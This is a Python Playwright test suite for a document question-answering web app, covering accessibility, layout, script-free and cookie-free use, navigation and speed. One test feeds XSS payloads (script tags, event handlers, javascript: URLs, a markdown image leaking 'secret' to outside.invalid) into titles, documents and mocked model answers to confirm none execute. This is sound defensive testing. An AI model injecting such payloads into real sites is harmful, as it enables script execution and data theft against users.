"""The whole face as one: what every page of it keeps to, whoever looks, with whatever is in it."""

from __future__ import annotations

import re
from urllib.parse import quote

import pytest
from browser_checks import DESKTOP, PHONE, OpenPage, assert_accessible, shot
from browser_site import QUESTION, Site
from playwright.sync_api import Page, Route, expect
from whole_face import FOREIGN, begun, kind_of, kinds_of_pages

EVIL = (
    "<script>document.title='owned';alert(1)</script>"
    '"><img src=x onerror=alert(2)>'
    "<svg onload=alert(3)></svg>'--></title></textarea><iframe src=javascript:alert(4)>"
    "{{7*7}}[x](javascript:alert(5))"
)
EVIL_ANSWER = f"""The deposit is 1,800 euros [1]. {EVIL}

![out](http://outside.invalid/leak.png?q=secret) <style>*{{display:none}}</style>

[click](javascript:alert(6)) <a href="data:text/html,<script>alert(7)</script>">b</a> `<b>` [1]

<form action=http://outside.invalid><input name=q autofocus onfocus=alert(8)></form>
"""
EVIL_DOCUMENT = f"# {EVIL}\n\nThe zebra clause of the lease costs 77 euros. {EVIL}\n\n## {EVIL}\n"
LONG_WORD = "Gebäudereinigungsvertragsbedingungen" * 14
VITALS = """
window.shifts = [];
new PerformanceObserver((list) => {
  for (const { value, hadRecentInput, sources } of list.getEntries()) {
    const moved = sources.map(({ node, previousRect, currentRect }) =>
      `${node?.nodeName} ${node?.className ?? ""}: ${previousRect.y} to ${currentRect.y}`);
    if (!hadRecentInput) window.shifts.push([value, ...moved]);
  }
}).observe({ type: "layout-shift", buffered: true });
"""
TRANSFERRED = """() => [...performance.getEntriesByType("navigation"),
  ...performance.getEntriesByType("resource")].reduce((sum, one) => sum + one.transferSize, 0)"""
LOADED_MS = "() => performance.getEntriesByType('navigation')[0].domContentLoadedEventEnd"


def answered(page: Page, question: str = QUESTION) -> None:
    """Ask on the front page, and wait for the article."""
    page.goto("/")
    page.locator("textarea[name=question]").fill(question)
    page.locator("textarea[name=question]").press("Enter")
    expect(page.locator(".answer")).to_be_visible()


@pytest.mark.parametrize(
    ("language", "theme", "viewport"),
    [
        ("en-US", "light", DESKTOP),
        ("ko-KR", "dark", PHONE),
    ],
    ids=["en-light-desktop", "ko-dark-phone"],
)
@pytest.mark.timeout(240)  # a dozen pages, each looked at by axe
def test_every_page_is_accessible_and_no_wider_than_the_window(
    open_page: OpenPage,
    site: Site,
    language: str,
    theme: str,
    viewport: dict[str, int],
    request: pytest.FixtureRequest,
) -> None:
    page = open_page(None, language=language, theme=theme, viewport=viewport)
    kinds = []
    for address in kinds_of_pages(page, begun(site)):
        kinds.append(kind_of(address))
        expect(page.locator("html")).to_have_attribute("lang", language[:2])
        for summary in page.locator("main details:not([open]) > summary").all()[:3]:
            if summary.is_visible():
                summary.click()
        try:
            assert_accessible(page)
        except AssertionError as fault:
            raise AssertionError(f"{address}: {fault}") from None
        width = page.evaluate("document.documentElement.scrollWidth")
        assert width <= viewport["width"], f"{address} is {width} wide"
        shot(
            page, f"face-{request.node.callspec.id}-{kind_of(address).strip('/').replace('/', '-')}"
        )
    assert len(kinds) >= 10, kinds


def test_nothing_that_anybody_wrote_runs_or_loads_anything(page: Page, site: Site) -> None:
    document = site.add(EVIL_DOCUMENT, f"{EVIL.replace('/', '∕')[:120]}.md")
    site.api(
        "PATCH", f"/api/documents/{document['id']}", {"tags": ["<img src=x onerror=alert(9)>"]}
    )
    site.macmini.set_mode("ok", reply={"answer": EVIL_ANSWER})
    calls = [{"name": "search", "arguments": {"query": f"zebra {EVIL}"}}]
    replies = [{"answer": EVIL, "tool_calls": calls}, {"answer": EVIL_ANSWER}]
    site.macbook.set_mode("ok", replies=replies)
    talk = site.api("POST", "/api/conversations", {"title": EVIL[:180]})
    plain = site.ask(f"What does the zebra clause cost? {EVIL}", conversation_id=talk["id"])
    agent = site.ask("What of the zebra clause?", backend="qwen-macbook", mode="agent")
    site.ask(f"{EVIL} zebra", backend="gone-desktop")
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    begin = [
        f"/asks/{plain['ask_id']}",
        f"/asks/{plain['ask_id']}/transcript",
        f"/conversations/{talk['id']}",
        f"/documents/{document['id']}",
        f"/?q={quote(EVIL)}&backend={quote(EVIL)}",
        f"/history?q={quote(EVIL)}&backend={quote(EVIL)}",
        f"/asks/{quote(EVIL, safe='')}",
    ]
    for address in (*kinds_of_pages(page, begin), f"/asks/{agent['ask_id']}"):
        if page.url != address:
            page.goto(address)
        for summary in page.locator("main details:not([open]) > summary").all()[:6]:
            if summary.is_visible():
                summary.click()
        assert page.evaluate(FOREIGN) == [], address
        assert "owned" not in page.title()[:5]
    page.goto(f"/asks/{agent['ask_id']}/transcript")
    assert page.evaluate(FOREIGN) == []
    answered(page, "What does the zebra clause cost in all?")  # put in by scripts
    assert page.evaluate(FOREIGN) == []
    assert dialogs == []
    site.api("DELETE", f"/api/documents/{document['id']}")


def test_without_scripts_documents_are_added_asked_about_and_asked_on(
    open_page: OpenPage, site: Site
) -> None:
    page = open_page("/documents", javascript=False)
    page.locator("input[type=file]").first.set_input_files(
        {
            "name": "boat.md",
            "mimeType": "text/markdown",
            "buffer": b"# The boat\n\nThe mooring of the boat costs 120 euros a year.\n",
        }
    )
    page.locator("form:has(input[type=file]) button[type=submit]").first.click()
    expect(page.locator("main")).to_contain_text("boat.md")
    site.add("# Oars\n\nThe oars are in the shed.\n", "oars.md")  # by now both have been read
    page.goto("/")
    page.locator("textarea[name=question]").fill("What does the mooring of the boat cost?")
    page.locator("input[name=backend][value=quotes]").check()
    page.get_by_role("button", name="Ask", exact=True).click()
    expect(page.locator(".answer")).to_contain_text("120 euros")
    page.locator(".sources a[href*='/documents/']").first.click()
    expect(page.locator("mark").first).to_contain_text("mooring")
    page.go_back()
    page.locator(".next textarea").fill("And where are the oars?")
    page.locator(".next button[type=submit]").click()
    expect(page).to_have_url(re.compile("/conversations/"))
    expect(page.locator(".turn")).to_have_count(2)


def test_without_cookies_everything_works_and_a_switch_holds_for_its_page(
    page: Page, site: Site
) -> None:
    def forgetful(route: Route) -> None:
        page.context.clear_cookies()
        route.continue_()

    page.route("**/*", forgetful)
    page.goto("/history?lang=ko&theme=dark")
    expect(page.locator("html")).to_have_attribute("lang", "ko")
    expect(page.locator("html")).to_have_attribute("data-theme", "dark")
    answered(page)
    expect(page.locator("html")).to_have_attribute("lang", "en")
    expect(page.locator(".byline").first).to_contain_text("gemma-macmini")


def test_going_back_forward_and_reloading_asks_nothing_again(page: Page, site: Site) -> None:
    site.macmini.set_mode("hold", reply={"answer": "The deposit is 1,800 euros [1]."}, after=3)
    page.goto("/")
    page.locator("textarea[name=question]").fill(QUESTION)
    page.locator("textarea[name=question]").press("Enter")
    expect(page.locator(".writing")).to_contain_text("The deposit")
    page.go_back()
    expect(page.locator("textarea[name=question]")).to_be_visible()
    page.go_forward()
    expect(page.locator(".writing")).to_contain_text("The deposit")
    site.macmini.release()
    expect(page.locator(".answer")).to_contain_text("1,800 euros")
    page.reload()
    expect(page.locator(".answer")).to_contain_text("1,800 euros")
    page.go_back()
    page.go_forward()
    expect(page.locator(".answer")).to_contain_text("1,800 euros")
    assert len(site.macmini.chats()) == 1


def test_what_was_removed_is_said_to_be_gone_with_a_way_on(page: Page, site: Site) -> None:
    document = site.add("# Gone\n\nThe gazebo is painted green.\n", "gone.md")
    talk = site.api("POST", "/api/conversations", {"title": "Gone"})
    ask = site.ask("What colour is the gazebo painted?", conversation_id=talk["id"])
    citing = site.ask("Which colour has the gazebo?", backend="quotes")
    site.api("DELETE", f"/api/conversations/{talk['id']}")
    site.api("DELETE", f"/api/documents/{document['id']}")
    for address in (
        f"/asks/{ask['ask_id']}",
        f"/asks/{ask['ask_id']}/transcript",
        f"/conversations/{talk['id']}",
        f"/documents/{document['id']}?start=0&end=10",
        "/nowhere",
    ):
        answer = page.goto(address)
        assert answer is not None
        assert answer.status == 404, address
        if address != "/nowhere":
            expect(page.get_by_role("heading", level=1)).to_contain_text(
                "not here", ignore_case=True
            )
            expect(page.get_by_role("link", name="History")).to_be_visible()
    page.goto(f"/asks/{citing['ask_id']}")  # what it was answered from is still told
    expect(page.locator(".answer")).to_contain_text("painted green")


@pytest.mark.parametrize("address", ["/", "/history", "/documents", "/machines", "ask"])
def test_a_first_view_is_small_and_quick(open_page: OpenPage, site: Site, address: str) -> None:
    if address == "ask":
        address = f"/asks/{site.ask()['ask_id']}"
    tries = []
    for _ in range(3):  # the quickest: what else this machine does is not the page's doing
        page = open_page(address)
        page.wait_for_load_state("load")
        tries.append(page.evaluate(LOADED_MS))
        assert page.evaluate(TRANSFERRED) < 100_000
        if tries[-1] < 1_000:
            break
    assert min(tries) < 1_000


@pytest.mark.parametrize("viewport", [DESKTOP, PHONE], ids=["desktop", "phone"])
def test_an_answer_that_is_written_moves_nothing_that_is_there(
    open_page: OpenPage, site: Site, viewport: dict[str, int]
) -> None:
    text = " ".join(f"The deposit is 1,800 euros [1], as clause {n} says." for n in range(40))
    site.macmini.set_mode("ok", reply={"answer": text}, delay_s=0.002)
    page = open_page(None, viewport=viewport)
    page.add_init_script(VITALS)
    answered(page)
    expect(page.locator("[data-live]")).to_have_count(0)
    shifts = page.evaluate("window.shifts")
    # What counts as good on the web (cumulative layout shift); `bench face` holds it to less.
    assert sum(shift[0] for shift in shifts) < 0.1, shifts


def test_from_question_to_source_by_the_keyboard_alone(page: Page, site: Site) -> None:
    page.goto("/")
    _tab_to(page, "textarea[name=question]")
    page.keyboard.type(QUESTION)
    page.keyboard.press("Enter")
    expect(page.locator(".answer a.mark").first).to_be_visible()
    expect(page.locator("[data-live]")).to_have_count(0)
    _tab_to(page, ".answer a.mark")
    page.keyboard.press("Enter")
    expect(page.locator("#panel mark")).to_contain_text("1,800 euros")
    _tab_to(page, "#panel a[href*='/documents/']")
    page.keyboard.press("Enter")
    expect(page).to_have_url(re.compile("/documents/"))
    expect(page.locator("mark").first).to_be_in_viewport()


def _tab_to(page: Page, selector: str) -> None:
    for _ in range(60):
        if page.evaluate("(selector) => document.activeElement.matches(selector)", selector):
            return
        page.keyboard.press("Tab")
    raise AssertionError(f"sixty tabs do not lead to {selector}")


def test_very_long_names_words_and_answers_stay_within_the_page(
    open_page: OpenPage, site: Site
) -> None:
    document = site.add(f"# {LONG_WORD}\n\nThe yurt clause: {LONG_WORD}\n", f"{LONG_WORD[:230]}.md")
    answer = f"The yurt [1] {LONG_WORD}. " + "A sentence that goes on about the yurt [1]. " * 400
    site.macmini.set_mode("ok", reply={"answer": answer + "\n\n" + "x" * 3_000})
    talk = site.api("POST", "/api/conversations", {"title": LONG_WORD[:200]})
    ask = site.ask(f"What of the yurt clause {LONG_WORD}?", conversation_id=talk["id"])
    page = open_page(None, viewport=PHONE)
    for address in (
        f"/asks/{ask['ask_id']}",
        f"/asks/{ask['ask_id']}/transcript",
        f"/conversations/{talk['id']}",
        "/history",
        "/conversations",
        "/documents",
        f"/documents/{document['id']}",
    ):
        page.goto(address)
        width = page.evaluate("document.documentElement.scrollWidth")
        assert width <= PHONE["width"], f"{address} is {width} wide"
    site.api("DELETE", f"/api/documents/{document['id']}")
